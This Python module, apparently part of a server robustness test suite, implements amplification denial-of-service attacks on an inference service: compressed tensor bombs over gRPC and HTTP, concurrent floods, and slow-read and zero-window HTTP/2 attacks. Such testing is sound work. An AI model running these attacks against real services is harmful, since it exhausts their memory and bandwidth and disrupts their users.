# SPDX-FileCopyrightText: The pyruntime authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks by requests that are right, and whose tensors or answers are much larger than what is sent."""

from contextlib import ExitStack
from functools import cache

from hyperframe.frame import SettingsFrame

from . import http2, messages
from .bombs import MIB, Run, compressed, fill, plain
from .clients import Target, at_once

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# The window of a call has no room for an answer.
CLOSED_WINDOW = http2.PREFACE + SettingsFrame(0, settings={4: 0}).serialize()


@cache
def _numbers(count: int) -> bytes:
    """A right request of so many numbers, compressed: each has a byte on the wire, and 8 in memory."""
    shape = messages.varint(count)
    contents = messages.field(messages.INT64, fill(b"\1", count))
    return compressed(*messages.contents(*contents, shape=shape))


def numbers(target: Target) -> None:
    """One request whose tensor has 160 MB, and whose answer has as many."""
    target.call(http2.SERVICE + "ModelInfer", _numbers(20_000_000))


def most_numbers(target: Target) -> None:
    """One request whose tensor has 380 MB: nearly as many as the share of one connection lets it have."""
    target.call(http2.SERVICE + "ModelInfer", _numbers(45 * MIB))


def many_numbers(target: Target) -> None:
    """Requests at once whose tensors have 7 GB together."""
    message = _numbers(60 * MIB)
    at_once(14, lambda _: target.call(http2.SERVICE + "ModelInfer", message))


@cache
def _zeros(size: int) -> tuple[bytes, int]:
    """(a compressed body of a right request with so many bytes of numbers, the length of its header)."""
    text = (
        f'{{"inputs":[{{"name":"IN","datatype":"INT64","shape":[{size // 8}],'
        f'"parameters":{{"binary_data_size":{size}}}}}]}}'
    ).encode()
    return compressed(Run(text), fill(b"\0", size)), len(text)


def many_zeros(target: Target) -> None:
    """Right requests of HTTP at once, of 60 MiB each when they are decompressed."""
    body, header = _zeros(60 * MIB)
    lines = ("Content-Encoding: gzip", f"Inference-Header-Content-Length: {header}")
    request = target.post("/v2/models/numbers/infer", body, *lines)
    at_once(14, lambda _: target.http(request))


def _unread(target: Target, path: bytes) -> None:
    """Many connections ask again and again, and read nothing."""
    request = b"GET %b HTTP/1.1\r\nHost: x\r\n\r\n" % path
    with ExitStack() as stack:
        for _ in range(200):
            sock = stack.enter_context(target.connect())
            sock.sendall(request * 60)
            target.count(60 * len(request))
        target.server.settle()


def unread_schemas(target: Target) -> None:
    """The largest document that there is."""
    _unread(target, b"/openapi.json")


def unread_statistics(target: Target) -> None:
    """A document that is made anew for each."""
    _unread(target, b"/v2/models/stats")


def unread_pages(target: Target) -> None:
    """A page for browsers."""
    _unread(target, b"/")


def unread_reflection(target: Target) -> None:
    """Calls of reflection, each with many questions whose answers are long."""
    symbol = messages.text(4, "inference.GRPCInferenceService")
    questions = http2.framed(plain(*symbol)) * 100
    calls = [http2.head(n, REFLECTION) + http2.data(n, questions) for n in range(1, 2 * 200, 2)]
    with target.connect(target.server.grpc_port) as sock:
        data = CLOSED_WINDOW + b"".join([*calls, http2.last_call(2 * 200 + 1)])
        sock.sendall(data)
        target.count(len(data))
        http2.read_to_end(sock, 2 * 200 + 1)


def unread_metadata(target: Target) -> None:
    """Calls without a window for their answers, on many connections."""
    path = http2.SERVICE + "ModelStatistics"
    calls = [http2.head(n, path) + http2.data(n, http2.framed(b""), ended=True) for n in range(1, 2 * 400, 2)]
    data = CLOSED_WINDOW + b"".join([*calls, http2.last_call(2 * 400 + 1)])
    with ExitStack() as stack:
        socks = [stack.enter_context(target.connect(target.server.grpc_port)) for _ in range(10)]
        for sock in socks:
            sock.sendall(data)
            target.count(len(data))
        for sock in socks:
            http2.read_to_end(sock, 2 * 400 + 1)


AMPLIFIED = {
    "gRPC: a request of 20 million numbers": numbers,
    "gRPC: a request of 47 million numbers": most_numbers,
    "gRPC: 14 requests of 60 million numbers": many_numbers,
    "gzip: 14 right requests of 60 MiB": many_zeros,
    "answers not read: openapi.json": unread_schemas,
    "answers not read: statistics": unread_statistics,
    "answers not read: the page": unread_pages,
    "answers not read: reflection": unread_reflection,
    "answers not read: calls": unread_metadata,
}
